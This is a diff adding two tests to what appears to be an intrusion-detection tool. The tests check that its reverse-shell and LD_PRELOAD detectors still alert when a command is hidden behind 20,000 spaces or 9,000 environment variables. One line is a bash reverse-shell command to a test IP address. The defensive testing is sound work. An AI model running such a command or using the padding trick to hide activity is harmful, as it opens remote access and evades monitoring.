@@ -232,6 +232,20 @@ def on_a_connection():
         check("a connection with 127.0.0.1 port" in alert["message"], alert["message"])
 
 
+@test("reverse-shell finds it behind 20,000 blanks")
+def behind_blanks():
+    with watch("reverse-shell") as w:
+        pid = run_in_shell(" " * 20000 + "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
+        w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")
+
+
+@test("ld-preload finds a library behind 9,000 variables")
+def behind_variables():
+    with watch("ld-preload") as w:
+        pid = run("env", *["A="] * 9000, "LD_PRELOAD=/tmp/no-such.so", "true")
+        w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")
+
+
 @test("exec-from-writable tells of a program that is in memory alone")
 def from_memory():
     with watch("exec-from-writable") as w:
